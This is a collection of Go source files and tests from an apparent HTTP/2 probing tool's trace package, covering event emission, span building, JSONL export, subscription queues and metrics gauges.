// emit stamps and publishes ev.
func (t *Tracer) emit(ev Event) {
	if t == nil {
		return
	}
	ev.At = time.Now()
	if ev.Phase == "" {
		if p := t.phase.Load(); p != nil {
			ev.Phase = *p
		}
	}
	t.ring.emit(&ev)
	if subs := t.subs.Load(); subs != nil {
		for _, s := range *subs {
			s.push(ev)
		}
	}
}

// ConnID reserves the next connection index for Frame/ConnOpen/ConnClose
// calls. IDs start at 1 so 0 can mean "no connection context".
func (t *Tracer) ConnID() uint64 {
	if t == nil {
		return 0
	}
	return t.conns.Add(1)
}

// Frame records one wire frame on connection conn.
func (t *Tracer) Frame(conn uint64, sent bool, hdr frame.Header) {
	kind := KindFrameRecv
	if sent {
		kind = KindFrameSent
	}
	t.emit(Event{
		Kind:      kind,
		Conn:      conn,
		StreamID:  hdr.StreamID,
		FrameType: hdr.Type,
		Flags:     hdr.Flags,
		Length:    int(hdr.Length),
	})
}

// ConnOpen records connection conn coming up.
func (t *Tracer) ConnOpen(conn uint64, detail string) {
	t.emit(Event{Kind: KindConnOpen, Conn: conn, Detail: detail})
}

// ConnClose records connection conn going down.
func (t *Tracer) ConnClose(conn uint64, detail string) {
	t.emit(Event{Kind: KindConnClose, Conn: conn, Detail: detail})
}

// Error records an error on connection conn (0 for target-level errors).
func (t *Tracer) Error(conn uint64, detail string) {
	t.emit(Event{Kind: KindError, Conn: conn, Detail: detail})
}

// Phase begins a named probe phase and returns the function that ends it.
// Frame and lifecycle events emitted while a phase is active carry its name,
// so a rendered trace shows which probe step each frame belongs to. Phases
// are tracer-global (probes run sequentially within a battery); nesting
// restores the enclosing phase on end.
func (t *Tracer) Phase(name string) func() {
	if t == nil {
		return func() {}
	}
	prev := t.phase.Swap(&name)
	t.emit(Event{Kind: KindPhaseStart, Phase: name})
	return func() {
		t.emit(Event{Kind: KindPhaseEnd, Phase: name})
		t.phase.Store(prev)
	}
}

// Region begins a named connection-scoped span and returns the function
// that ends it. Unlike Phase it does not touch the tracer-global phase
// state, so concurrent connections can carry independent regions: the pair
// of KindPhaseStart/KindPhaseEnd events is stamped with conn and the span
// builder (internal/obs) matches them by (conn, name). Conn 0 marks a
// region that precedes connection identity — a TLS handshake performed
// inside a dialer before ConnOpen — which the builder attributes to the
// next connection that opens.
func (t *Tracer) Region(conn uint64, name string) func() {
	if t == nil {
		return func() {}
	}
	t.emit(Event{Kind: KindPhaseStart, Conn: conn, Phase: name})
	return func() {
		t.emit(Event{Kind: KindPhaseEnd, Conn: conn, Phase: name})
	}
}

// Snapshot returns the retained events in Seq order. Safe to call while
// emits are in flight; the snapshot is a best-effort consistent cut.
func (t *Tracer) Snapshot() []Event {
	if t == nil {
		return nil
	}
	return t.ring.snapshot()
}

// --- context plumbing ---

// ctxKey keys the tracer in a context.
type ctxKey struct{}

// NewContext returns ctx carrying t; the scan engine uses it to hand each
// target's tracer to its probe function.
func NewContext(ctx context.Context, t *Tracer) context.Context {
	return context.WithValue(ctx, ctxKey{}, t)
}

// FromContext returns the tracer carried by ctx, or nil. A nil result is
// safe to use directly: every Tracer method no-ops on nil.
func FromContext(ctx context.Context) *Tracer {
	if ctx == nil {
		return nil
	}
	t, _ := ctx.Value(ctxKey{}).(*Tracer)
	return t
}
