package trace

import (
	"fmt"
	"sort"
	"strings"
	"time"
)

// RenderOptions tunes Render output.
type RenderOptions struct {
	// Events additionally dumps the raw event lines after the span views.
	Events bool
}

// Render formats a trace as a human-readable report: header summary, then a
// per-connection section with per-stream timelines annotated with probe
// phases, then (optionally) the raw event log.
func Render(d *Data, opts RenderOptions) string {
	var b strings.Builder
	fmt.Fprintf(&b, "trace")
	if d.Target != "" {
		fmt.Fprintf(&b, " %s", d.Target)
	}
	fmt.Fprintf(&b, ": %d events", len(d.Events))
	if d.Emitted > uint64(len(d.Events)) {
		fmt.Fprintf(&b, " (%d emitted)", d.Emitted)
	}
	if d.Dropped > 0 {
		fmt.Fprintf(&b, ", %d dropped", d.Dropped)
	}
	fmt.Fprintf(&b, "\n")

	for _, c := range BuildSpans(d.Events) {
		fmt.Fprintf(&b, "\nconn %d", c.Conn)
		if c.Detail != "" {
			fmt.Fprintf(&b, " (%s)", c.Detail)
		}
		fmt.Fprintf(&b, ": %v, %d frames sent / %d recv, %dB sent / %dB recv",
			c.Duration().Round(time.Microsecond), c.FramesSent, c.FramesRecv, c.BytesSent, c.BytesRecv)
		if c.Errors > 0 {
			fmt.Fprintf(&b, ", %d errors", c.Errors)
		}
		fmt.Fprintf(&b, "\n")
		for _, s := range c.Streams {
			rel := s.First.Sub(d.Start)
			fmt.Fprintf(&b, "  stream %-4d %s+%-10v %v  %d/%d frames  %d/%dB",
				s.StreamID, phaseTag(s.Phase), rel.Round(time.Microsecond),
				s.Duration().Round(time.Microsecond),
				s.FramesSent, s.FramesRecv, s.BytesSent, s.BytesRecv)
			if fb := s.FirstByteLatency(); fb > 0 {
				fmt.Fprintf(&b, "  first-byte %v", fb.Round(time.Microsecond))
			}
			if lb := s.LastByteLatency(); lb > 0 {
				fmt.Fprintf(&b, "  last-byte %v", lb.Round(time.Microsecond))
			}
			switch {
			case s.Reset:
				fmt.Fprintf(&b, "  RESET")
			case s.EndStream:
				fmt.Fprintf(&b, "  END_STREAM")
			}
			fmt.Fprintf(&b, "\n")
		}
	}

	if opts.Events {
		fmt.Fprintf(&b, "\nevents:\n")
		for _, ev := range d.Events {
			b.WriteString(formatEvent(d.Start, ev))
		}
	}
	return b.String()
}

func phaseTag(phase string) string {
	if phase == "" {
		return fmt.Sprintf("%-22s", "-")
	}
	return fmt.Sprintf("%-22s", "["+phase+"]")
}

// formatEvent renders one raw event line, relative-timestamped from start.
func formatEvent(start time.Time, ev Event) string {
	ms := float64(ev.At.Sub(start)) / float64(time.Millisecond)
	switch {
	case ev.Kind.IsFrame():
		dir := "<-"
		if ev.Kind == KindFrameSent {
			dir = "->"
		}
		return fmt.Sprintf("%10.3fms  #%-4d c%d %s %-13s stream=%-4d len=%-6d flags=0x%02x %s\n",
			ms, ev.Seq, ev.Conn, dir, ev.FrameType, ev.StreamID, ev.Length, uint8(ev.Flags), phaseSuffix(ev.Phase))
	case ev.Kind == KindPhaseStart || ev.Kind == KindPhaseEnd:
		return fmt.Sprintf("%10.3fms  #%-4d    == %s %s ==\n", ms, ev.Seq, ev.Kind, ev.Phase)
	default:
		return fmt.Sprintf("%10.3fms  #%-4d c%d    %-13s %s %s\n",
			ms, ev.Seq, ev.Conn, ev.Kind, ev.Detail, phaseSuffix(ev.Phase))
	}
}

// FormatFrameLine renders one frame event as a single transcript line:
// relative timestamp, sequence number, frame type, stream, length, and
// free-form detail. It is the line format shared by h2trace raw dumps and
// the h2conn transcript adapter, so there is one rendering path for both.
func FormatFrameLine(start time.Time, ev Event, detail string) string {
	return fmt.Sprintf("%8.3fms  #%-3d %-13s stream=%-4d len=%-6d %s\n",
		float64(ev.At.Sub(start))/float64(time.Millisecond),
		ev.Seq, ev.FrameType, ev.StreamID, ev.Length, detail)
}

func phaseSuffix(phase string) string {
	if phase == "" {
		return ""
	}
	return "[" + phase + "]"
}

// MergeRow is one trace's aggregate line in a RenderMerge summary.
type MergeRow struct {
	Name       string
	Target     string
	Events     int
	Dropped    uint64
	Conns      int
	Streams    int
	FramesSent int
	FramesRecv int
	BytesRecv  int64
	Phases     []string
}

// Summarize folds one trace into a MergeRow. name labels the row (typically
// the source file name); the trace's own target is kept alongside.
func Summarize(name string, d *Data) MergeRow {
	row := MergeRow{Name: name, Target: d.Target, Events: len(d.Events), Dropped: d.Dropped}
	seen := map[string]bool{}
	for _, ev := range d.Events {
		if ev.Kind == KindPhaseStart && !seen[ev.Phase] {
			seen[ev.Phase] = true
			row.Phases = append(row.Phases, ev.Phase)
		}
	}
	for _, c := range BuildSpans(d.Events) {
		row.Conns++
		row.Streams += len(c.Streams)
		row.FramesSent += c.FramesSent
		row.FramesRecv += c.FramesRecv
		row.BytesRecv += c.BytesRecv
	}
	return row
}

// RenderMerge formats many trace summaries as one table, sorted by name —
// the h2trace -merge view over a scan's trace directory.
func RenderMerge(rows []MergeRow) string {
	sorted := make([]MergeRow, len(rows))
	copy(sorted, rows)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Name < sorted[j].Name })

	var b strings.Builder
	fmt.Fprintf(&b, "%-32s %8s %8s %6s %8s %10s %10s %12s\n",
		"trace", "events", "dropped", "conns", "streams", "sent", "recv", "bytes-recv")
	var tot MergeRow
	for _, r := range sorted {
		name := r.Name
		if len(name) > 32 {
			name = "…" + name[len(name)-31:]
		}
		fmt.Fprintf(&b, "%-32s %8d %8d %6d %8d %10d %10d %12d\n",
			name, r.Events, r.Dropped, r.Conns, r.Streams, r.FramesSent, r.FramesRecv, r.BytesRecv)
		tot.Events += r.Events
		tot.Dropped += r.Dropped
		tot.Conns += r.Conns
		tot.Streams += r.Streams
		tot.FramesSent += r.FramesSent
		tot.FramesRecv += r.FramesRecv
		tot.BytesRecv += r.BytesRecv
	}
	fmt.Fprintf(&b, "%-32s %8d %8d %6d %8d %10d %10d %12d\n",
		fmt.Sprintf("total (%d traces)", len(sorted)),
		tot.Events, tot.Dropped, tot.Conns, tot.Streams, tot.FramesSent, tot.FramesRecv, tot.BytesRecv)
	return b.String()
}
