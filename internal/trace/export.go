package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"time"

	"h2scope/internal/frame"
)

// The export format is JSONL, matching internal/store's record stream: one
// header object on the first line, then one object per event. Event times
// are nanoseconds relative to the trace start, so traces diff cleanly and
// never leak wall-clock skew into analysis.

// fileHeader is the first line of an exported trace.
type fileHeader struct {
	Trace    string    `json:"trace"`
	Target   string    `json:"target,omitempty"`
	Start    time.Time `json:"start"`
	Events   uint64    `json:"events"`
	Dropped  uint64    `json:"dropped"`
	Capacity int       `json:"capacity"`
}

// headerMagic identifies a trace stream (vs. a store record stream).
const headerMagic = "h2scope"

// eventLine is the wire form of one event.
type eventLine struct {
	Seq    uint64 `json:"seq"`
	T      int64  `json:"t"` // nanoseconds since trace start
	Kind   string `json:"kind"`
	Conn   uint64 `json:"conn,omitempty"`
	Phase  string `json:"phase,omitempty"`
	Stream uint32 `json:"stream,omitempty"`
	FType  uint8  `json:"ft,omitempty"`
	Flags  uint8  `json:"flags,omitempty"`
	Len    int    `json:"len,omitempty"`
	Detail string `json:"detail,omitempty"`
}

// Data is a trace read back from (or about to be written to) its JSONL
// form: the header metadata plus the event stream in Seq order.
type Data struct {
	Target   string
	Start    time.Time
	Emitted  uint64
	Dropped  uint64
	Capacity int
	Events   []Event
}

// Write exports the tracer's current snapshot as JSONL. target names the
// traced unit (a scanned domain) in the header line.
func Write(w io.Writer, target string, t *Tracer) error {
	events := t.Snapshot()
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(fileHeader{
		Trace:    headerMagic,
		Target:   target,
		Start:    t.Start(),
		Events:   t.Emitted(),
		Dropped:  t.Dropped(),
		Capacity: t.Capacity(),
	}); err != nil {
		return err
	}
	start := t.Start()
	for _, ev := range events {
		if err := enc.Encode(eventLine{
			Seq:    ev.Seq,
			T:      ev.At.Sub(start).Nanoseconds(),
			Kind:   ev.Kind.String(),
			Conn:   ev.Conn,
			Phase:  ev.Phase,
			Stream: ev.StreamID,
			FType:  uint8(ev.FrameType),
			Flags:  uint8(ev.Flags),
			Len:    ev.Length,
			Detail: ev.Detail,
		}); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// Read parses a JSONL trace back into memory. Event At values are
// reconstructed as Start plus the stored relative offset.
func Read(r io.Reader) (*Data, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 4*1024*1024)
	if !sc.Scan() {
		if err := sc.Err(); err != nil {
			return nil, err
		}
		return nil, fmt.Errorf("trace: empty input")
	}
	var hdr fileHeader
	if err := json.Unmarshal(sc.Bytes(), &hdr); err != nil {
		return nil, fmt.Errorf("trace: bad header line: %w", err)
	}
	if hdr.Trace != headerMagic {
		return nil, fmt.Errorf("trace: not a trace file (header %q)", hdr.Trace)
	}
	d := &Data{
		Target:   hdr.Target,
		Start:    hdr.Start,
		Emitted:  hdr.Events,
		Dropped:  hdr.Dropped,
		Capacity: hdr.Capacity,
	}
	line := 1
	for sc.Scan() {
		line++
		if len(sc.Bytes()) == 0 {
			continue
		}
		var el eventLine
		if err := json.Unmarshal(sc.Bytes(), &el); err != nil {
			return nil, fmt.Errorf("trace: line %d: %w", line, err)
		}
		d.Events = append(d.Events, Event{
			Seq:       el.Seq,
			At:        hdr.Start.Add(time.Duration(el.T)),
			Kind:      KindFromString(el.Kind),
			Conn:      el.Conn,
			Phase:     el.Phase,
			StreamID:  el.Stream,
			FrameType: frame.Type(el.FType),
			Flags:     frame.Flags(el.Flags),
			Length:    el.Len,
			Detail:    el.Detail,
		})
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return d, nil
}
