package trace

import (
	"sync"
	"testing"

	"h2scope/internal/frame"
)

func emitN(tr *Tracer, conn uint64, n int) {
	for i := 0; i < n; i++ {
		tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: uint32(i)})
	}
}

func TestSubscriptionDeliversInEmitOrder(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(32)
	conn := tr.ConnID()
	emitN(tr, conn, 10)

	evs := sub.Drain(nil)
	if len(evs) != 10 {
		t.Fatalf("drained %d events, want 10", len(evs))
	}
	for i, ev := range evs {
		if ev.Length != i {
			t.Fatalf("event %d has Length %d, want %d (emit order)", i, ev.Length, i)
		}
		if i > 0 && evs[i].Seq <= evs[i-1].Seq {
			t.Fatalf("Seq regresses at %d", i)
		}
	}
	if got := sub.Dropped(); got != 0 {
		t.Fatalf("Dropped = %d, want 0", got)
	}
	if got := sub.Pending(); got != 0 {
		t.Fatalf("Pending after drain = %d, want 0", got)
	}
}

// TestSubscriptionLagDropsOldest is the drop-accounting regression test: a
// lagging consumer with a buffer of 8 that misses 20 events must see
// exactly the newest 8, in order, with Dropped() == 12 — overwrite-oldest,
// never block, never lie about losses.
func TestSubscriptionLagDropsOldest(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(8)
	conn := tr.ConnID()
	emitN(tr, conn, 20)

	if got := sub.Pending(); got != 8 {
		t.Fatalf("Pending = %d, want 8", got)
	}
	if got := sub.Dropped(); got != 12 {
		t.Fatalf("Dropped = %d, want 12", got)
	}
	evs := sub.Drain(nil)
	if len(evs) != 8 {
		t.Fatalf("drained %d events, want 8", len(evs))
	}
	for i, ev := range evs {
		if want := 12 + i; ev.Length != want {
			t.Fatalf("event %d has Length %d, want %d (newest 8 retained)", i, ev.Length, want)
		}
	}
	// The counter is cumulative: another overflow keeps adding.
	emitN(tr, conn, 9)
	if got := sub.Dropped(); got != 13 {
		t.Fatalf("Dropped after second overflow = %d, want 13", got)
	}
}

func TestSubscriptionDrainReusesBuffer(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(16)
	conn := tr.ConnID()
	emitN(tr, conn, 5)
	scratch := sub.Drain(nil)
	if len(scratch) != 5 {
		t.Fatalf("first drain = %d events, want 5", len(scratch))
	}
	emitN(tr, conn, 3)
	scratch = sub.Drain(scratch[:0])
	if len(scratch) != 3 {
		t.Fatalf("second drain = %d events, want 3", len(scratch))
	}
}

func TestSubscriptionWakeupSignal(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(16)
	select {
	case <-sub.C():
		t.Fatal("wakeup before any emit")
	default:
	}
	tr.Frame(tr.ConnID(), false, frame.Header{Type: frame.TypePing})
	select {
	case <-sub.C():
	default:
		t.Fatal("no wakeup after emit")
	}
	if got := len(sub.Drain(nil)); got != 1 {
		t.Fatalf("drained %d, want the 1 ping", got)
	}
	// Level-style: many emits, at most one token; a drain-until-empty
	// consumer still sees everything.
	emitN(tr, tr.ConnID(), 10)
	if got := len(sub.Drain(nil)); got != 10 {
		t.Fatalf("drained %d, want 10", got)
	}
}

func TestSubscriptionCloseDetaches(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(16)
	conn := tr.ConnID()
	emitN(tr, conn, 4)
	sub.Close()
	if got := sub.Pending(); got != 0 {
		t.Fatalf("Pending after close = %d, want 0", got)
	}
	// Emits after close are not delivered and not counted as drops.
	emitN(tr, conn, 4)
	if got := len(sub.Drain(nil)); got != 0 {
		t.Fatalf("drained %d events after close, want 0", got)
	}
	if got := sub.Dropped(); got != 0 {
		t.Fatalf("Dropped after close = %d, want 0", got)
	}
	sub.Close() // idempotent
}

func TestSubscriptionMultipleIndependent(t *testing.T) {
	tr := New(64)
	a := tr.Subscribe(4)
	b := tr.Subscribe(32)
	conn := tr.ConnID()
	emitN(tr, conn, 10)
	if got := a.Dropped(); got != 6 {
		t.Fatalf("small subscriber Dropped = %d, want 6", got)
	}
	if got := len(b.Drain(nil)); got != 10 {
		t.Fatalf("large subscriber drained %d, want 10", got)
	}
	a.Close()
	emitN(tr, conn, 5)
	if got := len(b.Drain(nil)); got != 5 {
		t.Fatalf("surviving subscriber drained %d after peer close, want 5", got)
	}
}

func TestSubscriptionNilSafe(t *testing.T) {
	var tr *Tracer
	sub := tr.Subscribe(8)
	if sub != nil {
		t.Fatal("nil tracer returned non-nil subscription")
	}
	if got := sub.Drain(nil); got != nil {
		t.Fatalf("nil Drain = %v", got)
	}
	if sub.Pending() != 0 || sub.Dropped() != 0 {
		t.Fatal("nil subscription reports queued state")
	}
	if sub.C() != nil {
		t.Fatal("nil subscription returned non-nil channel")
	}
	sub.Close()
}

// TestSubscriptionConcurrentEmitDrain hammers push/drain/close from
// separate goroutines; with -race this pins the locking discipline.
func TestSubscriptionConcurrentEmitDrain(t *testing.T) {
	tr := New(256)
	sub := tr.Subscribe(64)
	conn := tr.ConnID()
	var wg sync.WaitGroup
	emitDone := make(chan struct{})
	wg.Add(2)
	go func() {
		defer wg.Done()
		emitN(tr, conn, 2000)
		close(emitDone)
	}()
	drained := 0
	go func() {
		defer wg.Done()
		var scratch []Event
		for {
			select {
			case <-sub.C():
			case <-emitDone:
				drained += len(sub.Drain(scratch[:0]))
				return
			}
			scratch = sub.Drain(scratch[:0])
			drained += len(scratch)
		}
	}()
	wg.Wait()
	// Conservation: every emitted frame event was either drained or dropped.
	rest := len(sub.Drain(nil))
	total := uint64(drained) + uint64(rest) + sub.Dropped()
	if total != 2000 {
		t.Fatalf("drained %d + rest %d + dropped %d = %d, want 2000", drained, rest, sub.Dropped(), total)
	}
	sub.Close()
}
