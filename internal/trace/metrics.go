package trace

import (
	"h2scope/internal/metrics"
)

// ExportMetrics publishes the tracer's ring health into r as computed
// gauges, so the -debug-addr endpoint shows whether traces are complete:
//
//	h2_trace_events_total   events emitted over the tracer's lifetime
//	h2_trace_dropped_total  events the ring overwrote before snapshotting
//	h2_trace_ring_capacity  ring size in slots
//
// GaugeFunc re-registration replaces the reader, so a caller that swaps
// tracers (the scan engine creates one per target) re-points the gauges at
// whichever tracer exported last. Safe on a nil receiver: the gauges then
// read zero, matching every other nil-Tracer no-op.
func (t *Tracer) ExportMetrics(r *metrics.Registry) {
	r.GaugeFunc("h2_trace_events_total",
		"trace events emitted over the tracer's lifetime (overwritten ones included)",
		func() int64 { return int64(t.Emitted()) })
	r.GaugeFunc("h2_trace_dropped_total",
		"trace events overwritten in the ring before they could be snapshotted",
		func() int64 { return int64(t.Dropped()) })
	r.GaugeFunc("h2_trace_ring_capacity",
		"trace ring capacity in event slots",
		func() int64 { return int64(t.Capacity()) })
}
