package trace

import (
	"h2scope/internal/metrics"
)

// ExportMetrics publishes the tracer's ring health into r as computed
// gauges, so the -debug-addr endpoint shows whether traces are complete:
//
//	h2_trace_events_total   events emitted over the tracer's lifetime
//	h2_trace_dropped_total  events the ring overwrote before snapshotting
//	h2_trace_ring_capacity  ring size in slots
//
// GaugeFunc re-registration replaces the reader, so a caller that swaps
// tracers (the scan engine creates one per target) re-points the gauges at
// whichever tracer exported last. Safe on a nil receiver: the gauges then
// read zero, matching every other nil-Tracer no-op.
func (t *Tracer) ExportMetrics(r *metrics.Registry) {
	r.GaugeFunc("h2_trace_events_total",
		"trace events emitted over the tracer's lifetime (overwritten ones included)",
		func() int64 { return int64(t.Emitted()) })
	r.GaugeFunc("h2_trace_dropped_total",
		"trace events overwritten in the ring before they could be snapshotted",
		func() int64 { return int64(t.Dropped()) })
	r.GaugeFunc("h2_trace_ring_capacity",
		"trace ring capacity in event slots",
		func() int64 { return int64(t.Capacity()) })
}

// ExportMetrics publishes the subscription's queue health into r as
// computed gauges labeled with the consumer's name, the per-consumer
// counterpart of Tracer.ExportMetrics's ring gauges:
//
//	h2_trace_sub_dropped_total{sub="name"}  events overwritten because the consumer lagged
//	h2_trace_sub_pending{sub="name"}        events queued and not yet drained
//
// Before this export, subscription overflows were visible only to callers
// polling Dropped(); on a dashboard a climbing sub-drop gauge is the signal
// that a consumer (detector, span monitor) cannot keep up with the bus.
// Safe on a nil receiver: the gauges then read zero.
func (s *Subscription) ExportMetrics(r *metrics.Registry, name string) {
	r.GaugeFunc(metrics.Label("h2_trace_sub_dropped_total", "sub", name),
		"trace events overwritten in a subscription queue because the consumer lagged",
		func() int64 { return int64(s.Dropped()) })
	r.GaugeFunc(metrics.Label("h2_trace_sub_pending", "sub", name),
		"trace events queued in a subscription and not yet drained",
		func() int64 { return int64(s.Pending()) })
}
