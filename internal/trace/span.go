package trace

import (
	"sort"
	"time"

	"h2scope/internal/frame"
)

// StreamSpan is the derived view of one stream's life on one connection:
// open→close bounds, byte and frame tallies, and the latency landmarks the
// paper's measurements hinge on (first HEADERS, first/last DATA byte).
type StreamSpan struct {
	Conn     uint64
	StreamID uint32
	// Phase is the probe phase active when the stream's first event fired.
	Phase string
	// First and Last bound every event observed on the stream.
	First, Last time.Time
	// FramesSent/FramesRecv count frames in each direction.
	FramesSent, FramesRecv int
	// BytesSent/BytesRecv sum DATA payload lengths in each direction.
	BytesSent, BytesRecv int64
	// FirstHeaders is when the first HEADERS arrived from the peer
	// (zero if none did).
	FirstHeaders time.Time
	// FirstData and LastData bound received DATA frames (zero if none).
	FirstData, LastData time.Time
	// EndStream reports whether a received frame carried END_STREAM.
	EndStream bool
	// Reset reports whether a RST_STREAM was seen in either direction.
	Reset bool
}

// Duration is the wall time between the stream's first and last events.
func (s StreamSpan) Duration() time.Duration { return s.Last.Sub(s.First) }

// FirstByteLatency is the delay from the stream's first event (normally the
// request HEADERS going out) to the first response byte landmark: HEADERS
// received, falling back to first DATA. Zero if no response was seen.
func (s StreamSpan) FirstByteLatency() time.Duration {
	switch {
	case !s.FirstHeaders.IsZero():
		return s.FirstHeaders.Sub(s.First)
	case !s.FirstData.IsZero():
		return s.FirstData.Sub(s.First)
	default:
		return 0
	}
}

// LastByteLatency is the delay from the stream's first event to its last
// received DATA frame. Zero if no DATA was seen.
func (s StreamSpan) LastByteLatency() time.Duration {
	if s.LastData.IsZero() {
		return 0
	}
	return s.LastData.Sub(s.First)
}

// ConnSpan is the derived view of one connection: lifecycle bounds plus
// aggregate frame/byte tallies across all its streams (stream 0 included).
type ConnSpan struct {
	Conn        uint64
	First, Last time.Time
	Opened      bool
	Closed      bool
	// Detail carries the ConnOpen annotation (e.g. the dialed authority).
	Detail                 string
	FramesSent, FramesRecv int
	BytesSent, BytesRecv   int64
	Errors                 int
	Streams                []StreamSpan
}

// Duration is the wall time between the connection's first and last events.
func (c ConnSpan) Duration() time.Duration { return c.Last.Sub(c.First) }

// BuildSpans folds an event stream (as returned by Snapshot or read back
// from an export) into per-connection spans with nested per-stream spans,
// ordered by connection ID then stream ID.
func BuildSpans(events []Event) []ConnSpan {
	conns := map[uint64]*ConnSpan{}
	streams := map[[2]uint64]*StreamSpan{}

	conn := func(id uint64, at time.Time) *ConnSpan {
		c := conns[id]
		if c == nil {
			c = &ConnSpan{Conn: id, First: at, Last: at}
			conns[id] = c
		}
		if at.Before(c.First) {
			c.First = at
		}
		if at.After(c.Last) {
			c.Last = at
		}
		return c
	}
	stream := func(ev Event) *StreamSpan {
		key := [2]uint64{ev.Conn, uint64(ev.StreamID)}
		s := streams[key]
		if s == nil {
			s = &StreamSpan{Conn: ev.Conn, StreamID: ev.StreamID, Phase: ev.Phase, First: ev.At, Last: ev.At}
			streams[key] = s
		}
		if ev.At.Before(s.First) {
			s.First = ev.At
		}
		if ev.At.After(s.Last) {
			s.Last = ev.At
		}
		return s
	}

	for _, ev := range events {
		switch ev.Kind {
		case KindConnOpen:
			c := conn(ev.Conn, ev.At)
			c.Opened = true
			if c.Detail == "" {
				c.Detail = ev.Detail
			}
		case KindConnClose:
			conn(ev.Conn, ev.At).Closed = true
		case KindError:
			if ev.Conn != 0 {
				conn(ev.Conn, ev.At).Errors++
			}
		case KindFrameSent, KindFrameRecv:
			c := conn(ev.Conn, ev.At)
			s := stream(ev)
			sent := ev.Kind == KindFrameSent
			if sent {
				c.FramesSent++
				s.FramesSent++
			} else {
				c.FramesRecv++
				s.FramesRecv++
			}
			switch ev.FrameType {
			case frame.TypeData:
				if sent {
					c.BytesSent += int64(ev.Length)
					s.BytesSent += int64(ev.Length)
				} else {
					c.BytesRecv += int64(ev.Length)
					s.BytesRecv += int64(ev.Length)
					if s.FirstData.IsZero() {
						s.FirstData = ev.At
					}
					s.LastData = ev.At
				}
			case frame.TypeHeaders:
				if !sent && s.FirstHeaders.IsZero() {
					s.FirstHeaders = ev.At
				}
			case frame.TypeRSTStream:
				s.Reset = true
			}
			if !sent && ev.StreamEnded() {
				s.EndStream = true
			}
		}
	}

	for _, s := range streams {
		conns[s.Conn].Streams = append(conns[s.Conn].Streams, *s)
	}
	out := make([]ConnSpan, 0, len(conns))
	for _, c := range conns {
		sort.Slice(c.Streams, func(i, j int) bool { return c.Streams[i].StreamID < c.Streams[j].StreamID })
		out = append(out, *c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Conn < out[j].Conn })
	return out
}
