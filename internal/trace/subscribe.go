package trace

import "sync"

// DefaultSubscriptionBuffer is the per-subscriber queue size applied when
// Subscribe is given a non-positive buffer: a couple of detector sweep
// intervals' worth of frame events on a busy connection.
const DefaultSubscriptionBuffer = 4096

// Subscription is a bounded, push-based view of a tracer's event stream for
// long-lived consumers (the server's attack detector). It exists because the
// ring alone cannot serve such consumers: a Snapshot re-copies the whole
// ring on every poll and gives no way to tell which events are new, while a
// consumer that falls behind must learn how much it missed.
//
// Each subscriber owns an independent bounded FIFO the tracer pushes into at
// emit time. When the consumer lags and the queue fills, the oldest queued
// events are overwritten and counted in Dropped — the subscription never
// blocks the emit path and never grows without bound. Events arrive in emit
// order; Seq gaps identify both ring-level and subscription-level losses.
type Subscription struct {
	t *Tracer

	mu      sync.Mutex
	buf     []Event
	start   int // index of the oldest queued event
	count   int // queued events
	dropped uint64
	closed  bool

	// notify is a capacity-1 wakeup signal: push offers, consumers drain.
	notify chan struct{}
}

// Subscribe attaches a bounded consumer queue to the tracer. Events emitted
// after Subscribe returns are delivered; the queue retains at most buffer
// events (DefaultSubscriptionBuffer when buffer <= 0), overwriting oldest
// and counting drops when the consumer lags. A nil tracer returns nil; all
// Subscription methods are safe on a nil receiver.
func (t *Tracer) Subscribe(buffer int) *Subscription {
	if t == nil {
		return nil
	}
	if buffer <= 0 {
		buffer = DefaultSubscriptionBuffer
	}
	s := &Subscription{
		t:      t,
		buf:    make([]Event, buffer),
		notify: make(chan struct{}, 1),
	}
	t.subMu.Lock()
	old := t.subs.Load()
	var next []*Subscription
	if old != nil {
		next = append(next, *old...)
	}
	next = append(next, s)
	t.subs.Store(&next)
	t.subMu.Unlock()
	return s
}

// push queues ev, overwriting the oldest queued event when full.
func (s *Subscription) push(ev Event) {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	if s.count == len(s.buf) {
		s.start = (s.start + 1) % len(s.buf)
		s.count--
		s.dropped++
	}
	s.buf[(s.start+s.count)%len(s.buf)] = ev
	s.count++
	s.mu.Unlock()
	select {
	case s.notify <- struct{}{}:
	default:
	}
}

// Drain appends all queued events to dst in emit order, consuming them, and
// returns the extended slice. Passing a retained dst[:0] makes steady-state
// polling allocation-free. Nil receivers return dst unchanged.
func (s *Subscription) Drain(dst []Event) []Event {
	if s == nil {
		return dst
	}
	s.mu.Lock()
	for i := 0; i < s.count; i++ {
		dst = append(dst, s.buf[(s.start+i)%len(s.buf)])
	}
	s.start = 0
	s.count = 0
	s.mu.Unlock()
	return dst
}

// Pending returns the number of queued, not-yet-drained events.
func (s *Subscription) Pending() int {
	if s == nil {
		return 0
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.count
}

// Dropped returns how many events were overwritten because the consumer
// lagged behind the queue bound — the subscription's honesty counter,
// mirroring Tracer.Dropped at the per-consumer level.
func (s *Subscription) Dropped() uint64 {
	if s == nil {
		return 0
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.dropped
}

// C returns a channel that receives a signal when new events may be queued.
// It is a level-style wakeup, not one token per event: after a wakeup the
// consumer should Drain until empty. Nil receivers return a nil channel
// (which blocks forever, the correct behavior for a consumer loop that also
// has a ticker).
func (s *Subscription) C() <-chan struct{} {
	if s == nil {
		return nil
	}
	return s.notify
}

// Close detaches the subscription from the tracer and discards queued
// events. Safe to call multiple times and on nil.
func (s *Subscription) Close() {
	if s == nil {
		return
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	s.closed = true
	s.count = 0
	s.mu.Unlock()

	t := s.t
	t.subMu.Lock()
	if old := t.subs.Load(); old != nil {
		next := make([]*Subscription, 0, len(*old))
		for _, sub := range *old {
			if sub != s {
				next = append(next, sub)
			}
		}
		t.subs.Store(&next)
	}
	t.subMu.Unlock()
}
