package metrics
